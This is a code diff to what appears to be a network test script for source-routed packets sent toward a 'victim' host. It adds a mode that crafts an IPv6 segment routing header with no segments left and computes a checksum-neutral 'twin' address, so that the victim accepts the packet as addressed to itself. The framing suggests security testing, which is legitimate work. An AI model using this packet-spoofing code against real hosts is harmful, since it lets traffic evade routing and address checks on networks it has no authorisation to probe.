@@ -1,6 +1,8 @@
 """Source routes: a packet to a witness that goes to a victim first, by option (IP_OPTIONS, IPV6_RTHDR) or, with the
-word `message`, by control message."""
+word `message`, by control message. With the word `ended`, one that says that it has been everywhere already, so that
+the victim takes it for its own."""
 
+import ipaddress
 import socket
 import struct
 
@@ -71,6 +73,21 @@ def packet_options(address, token):
         client.sendto(token, (witness(address), UDP_PORT))
 
 
+def twin(address):
+    """A neighbour of the witness that adds up to the same as the victim: a packet's checksum is right for both."""
+    network = ipaddress.ip_network(f"{witness(address)}/64", strict=False).network_address.packed
+    words = sum(struct.unpack("!8H", packed(address))) - sum(struct.unpack("!8H", network))
+    return socket.inet_ntop(socket.AF_INET6, network[:14] + struct.pack("!H", words % 0xffff))
+
+
+def ended(address, token):
+    """A segment routing header with no segment left, whose only one is the victim."""
+    header = struct.pack("BBBBBBH", 0, 2, SEGMENT_ROUTING, 0, 0, 0, 0) + packed(address)
+    with new(address) as client:
+        client.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, header)
+        client.sendto(token, (twin(address), UDP_PORT))
+
+
 def control(address):
     if family(address) == socket.AF_INET6:
         return [(socket.IPPROTO_IPV6, IPV6_RTHDR, mobile_route6(address))]
@@ -91,6 +108,8 @@ def connected_message(address, token):
 if "message" in WORDS:
     reach("sendmsg", message)
     reach("connected sendmsg", connected_message)
+elif "ended" in WORDS:
+    reach("ended segments", ended)
 else:
     reach("sendto", datagram)
     reach("connect", connected)
